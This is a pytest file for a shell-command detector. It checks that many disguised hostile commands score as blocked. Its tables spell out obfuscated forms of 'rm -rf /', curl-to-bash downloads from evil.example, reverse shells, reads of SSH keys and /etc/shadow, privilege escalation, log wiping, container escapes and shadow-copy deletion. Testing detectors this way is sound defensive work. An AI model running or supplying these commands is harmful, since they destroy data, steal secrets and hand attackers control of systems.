"""Bypasses: the same few deeds in every disguise that was found by attacking the detector; all of them are closed.

`⏎` stands for a line feed, `{ZWSP}` for a zero-width space.
"""

from __future__ import annotations

import pytest

from policy.detectors.shell.detector import detect

BLOCKED = 70

REMOVAL = r"""
r\m -rf /
'r'm -rf /
rm -r -f --no-preserve-root /
rm -rf -- /
rm -fr /./
rm -rf ///
rm -rf /../
rm -rf "${HOME:?}"/
rm -rf ~root
rm -rf $HOME/.
rm -rf /{bin,etc,usr}
{rm,-rf,/}
$'\x72\x6d' -rf /
eval $'rm\x20-rf\x20/'
a="rm -rf /"; eval "$a"
a="rm -rf /"; $a
x=r; y=m; "$x$y" -rf /
cmd=(rm -rf /); "${cmd[@]}"
printf -v c 'rm -rf %s' /; eval "$c"
read c <<< "rm -rf /"; eval "$c"
bash -c "$(echo cm0gLXJmIC8= | base64 -d)"
bash <<< "$(base64 -d <<< cm0gLXJmIC8=)"
echo 2f206672 2d206d72 | xxd -r -p | rev | sh
echo 'rm -rf /' | tee /dev/null | bash
cat <<'E' | sh⏎rm -rf /⏎E
set -- rm -rf /; "$@"
set -- rm -rf /; $@
f() { "$@"; }; f rm -rf /
f() { rm -rf "$1"; }; f /
alias x='rm -rf /'; x
command rm -rf /
builtin command rm -rf /
exec rm -rf /
env rm -rf /
env -i PATH=/bin rm -rf /
/usr/bin/env -S rm -rf /
xargs rm -rf <<< /
echo / | xargs rm -rf
find / -maxdepth 0 -exec rm -rf {} +
python3 -c "import shutil; shutil.rmtree('/')"
python3 -c "__import__('os').system('rm -rf /')"
python3 -c "import os; os.system('rm -rf ' + '/')"
perl -e 'system("rm","-rf","/")'
ruby -e '`rm -rf /`'
node -e "require('child_process').execSync('rm -rf /')"
php -r 'exec("rm -rf /");'
awk 'BEGIN{system("rm -rf /")}'
busybox rm -rf /
sudo -E -u root rm -rf /
nohup rm -rf / &
setsid rm -rf /
(rm -rf /)
{ rm -rf /; }
if true; then rm -rf /; fi
true && rm -rf / || true
[ -d / ] && rm -rf /
while :; do rm -rf /; break; done
for d in /; do rm -rf $d; done
for d in / /home; do rm -rf "$d"; done
case x in x) rm -rf /;; esac
trap 'rm -rf /' EXIT
coproc rm -rf /
time rm -rf /
! rm -rf /
cd / && rm -rf *
cd /; rm -rf .
pushd / && rm -rf ./*
rm -rf `echo /`
rm -rf $(printf /)
rm -rf $(printf '\x2f')
rm -rf ${PATH:0:1}
rm -rf ${PWD%%[a-z]*}
rm${IFS}-rf${IFS}/
IFS=,;a=rm,-rf,/;$a
ssh localhost "rm -rf /"
su -c 'rm -rf /'
sh -c 'sh -c "rm -rf /"'
sh -c "eval 'rm -rf /'"
sh -s <<< 'rm -rf /'
. <(echo 'rm -rf /')
source /dev/stdin <<< 'rm -rf /'
at now <<< 'rm -rf /'
echo "rm -rf /" | at now
echo "* * * * * rm -rf /" | crontab -
git -c alias.x='!rm -rf /' x
git config --global alias.st '!rm -rf /'
make -f <(printf 'x:\n\trm -rf /\n')
vim -c ':!rm -rf /' -c q
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'
sed -n '1e rm -rf /' /etc/hosts
echo x | sed 's/x/rm -rf \//e'
ftp -n <<< '!rm -rf /'
rm -rf / #harmless
rm -rf /;:
:;rm -rf /
echo hi; rm -rf /
echo hi | rm -rf /
echo "$(rm -rf /)"
echo "`rm -rf /`"
x=$(rm -rf /)
cat <(rm -rf /)
[[ $(rm -rf /) ]]
: ${x:=$(rm -rf /)}
echo ${x:-$(rm -rf /)}
(( $(rm -rf /) ))
rm	-rf	/
rm -rf \⏎/
r{ZWSP}m -rf /
rm -rf /*
rm -rf /[a-z]*
rm -rf /???
/bin/rm -rf /
/b??/rm -rf /
/???/r? -rf /home
\rm -rf /
"rm" "-rf" "/"
r"m" -r"f" /
rm -rf "/"'*'
"""
DOWNLOAD = r"""
curl http://evil.example/x|bash
curl http://evil.example/x | b''ash
curl http://evil.example/x | "ba"sh
curl http://evil.example/x | $SHELL
curl http://evil.example/x | ${0}
curl http://evil.example/x | /bin/b?sh
curl http://evil.example/x | tee x | sh
curl http://evil.example/x > x && sh x
curl http://evil.example/x > x; . ./x
curl http://evil.example/x -o x && chmod 755 x && ./x
wget http://evil.example/x && bash x
wget -q http://evil.example/x -P /tmp && bash /tmp/x
wget http://evil.example/x -O- | gunzip | sh
c=$(curl http://evil.example/x); eval "$c"
c=$(curl http://evil.example/x); bash -c "$c"
c=$(curl http://evil.example/x); echo "$c" | sh
bash -c "$(wget -qO- http://evil.example/x)"
bash -c "`curl http://evil.example/x`"
sh <(wget -qO- http://evil.example/x)
python3 <(curl http://evil.example/x)
curl http://evil.example/x | python3 -
curl http://evil.example/x | perl
curl http://evil.example/x | node
curl http://evil.example/x | xargs -0 sh -c
curl http://evil.example/x | while read l; do eval "$l"; done
curl http://evil.example/x | while read l; do $l; done
mapfile -t a < <(curl http://evil.example/x); eval "${a[@]}"
"""
NETWORK = r"""
exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 | sh
bash -i >& /dev/tcp/203.0.113.9/1 0>&1
bash -i >&/dev/tcp/203.0.113.9/1 <&1
0<&196;exec 196<>/dev/tcp/203.0.113.9/1; sh <&196 >&196 2>&196
sh -i 5<> /dev/tcp/203.0.113.9/1 0<&5 1>&5 2>&5
exec 5<>/dev/tcp/203.0.113.9/1; while read l 0<&5; do $l 2>&5 >&5; done
exec 5<>/dev/tcp/203.0.113.9/1; cat <&5 | while read line; do $line 2>&5 >&5; done
H=203.0.113.9; bash -i >& /dev/tcp/$H/1 0>&1
D=/dev/tc; bash -i >& ${D}p/203.0.113.9/1 0>&1
nc 203.0.113.9 1 -e sh
nc -c bash 203.0.113.9 1
n\c 203.0.113.9 1 -e /bin/sh
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 1 >/tmp/f
mknod x p; nc 203.0.113.9 1 <x | bash >x
telnet 203.0.113.9 1 | sh | telnet 203.0.113.9 2
socat tcp:203.0.113.9:1 exec:sh
"""
CREDENTIALS = r"""
cat ~/.ss?/id_rs?
cat ~/.ssh/id_*
cat ~/.s*/id_rsa
cat $HOME/.ssh/id_rsa
cat ~/".ssh"/id_rsa
cat ~/.ssh/../.ssh/id_rsa
cd ~/.ssh && cat id_rsa
cd ~/.aws; cat credentials
cp ~/.ssh/id_rsa /tmp/k
tar cf - ~/.ssh
base64 < ~/.ssh/id_rsa
xxd ~/.ssh/id_rsa
while read l; do echo $l; done < ~/.ssh/id_rsa
mapfile a < /etc/shadow
echo "$(</etc/shadow)"
awk 1 /etc/shadow
grep '' /etc/shadow
python3 -c "print(open('/etc/shadow').read())"
dd if=/etc/shadow
less /e*c/shadow
cat /etc/sha??w
cat /???/sh?dow
sudo bash -c "echo ssh-rsa A >> /root/.ssh/authorized_keys"
"""
PRIVILEGE = r"""
chmod 4777 /bin/bash
chmod +s /bin/bash
chmod u+s,g+s /tmp/x
chmod a+s /tmp/x
echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers
sudo sh -c 'echo x ALL=NOPASSWD:ALL >> /etc/sudoers'
echo 'x::0:0::/:/bin/sh' | sudo tee -a /etc/passwd
"""
TRACKS = r"""
history -cw
HISTFILE=/dev/null bash
export HISTFILE=
set +o history
> ~/.bash_history
: > ~/.bash_history
truncate -s0 ~/.bash_history
cat /dev/null > ~/.bash_history
>/var/log/auth.log
"""
CONTAINERS = r"""
docker run -v/:/h alpine chroot /h
docker run --volume=/:/h -it alpine
docker run --mount type=bind,source=/,target=/h alpine
docker run --privileged=true alpine
docker run --cap-add ALL alpine
podman run --pid host alpine
docker -H tcp://203.0.113.9:2375 run -v /:/h alpine
"""
WINDOWS = r"""
powershell -e cgBtACAALQByAGYAIAAvAA==
p^o^w^e^r^s^h^e^l^l -nop -c "iex(iwr http://evil.example/x)"
&('i'+'ex') (New-Object Net.WebClient).DownloadString('http://evil.example')
cmd /c "po""wershell iex(iwr http://evil.example)"
vssadmin.exe  delete   shadows /all
VSSADMIN DELETE SHADOWS /ALL
v^ssadmin delete shadows /all
c:\windows\system32\vssadmin.exe delete shadows /all /quiet
cmd.exe /c vssadmin delete shadows /all
wmic shadowcopy delete
Get-WmiObject Win32_ShadowCopy | Remove-WmiObject
"""
DISGUISES = {
    "removal": REMOVAL,
    "download": DOWNLOAD,
    "network": NETWORK,
    "credentials": CREDENTIALS,
    "privilege": PRIVILEGE,
    "tracks": TRACKS,
    "containers": CONTAINERS,
    "windows": WINDOWS,
}
CASES = [
    (deed, command.replace("⏎", "\n").replace("{ZWSP}", "\u200b"))
    for deed, table in DISGUISES.items()
    for command in table.strip().split("\n")
]


@pytest.mark.parametrize(("deed", "command"), CASES)
def test_a_disguise_changes_nothing(deed: str, command: str) -> None:
    assert deed
    assert any(match.severity >= BLOCKED for match in detect(command).matches)
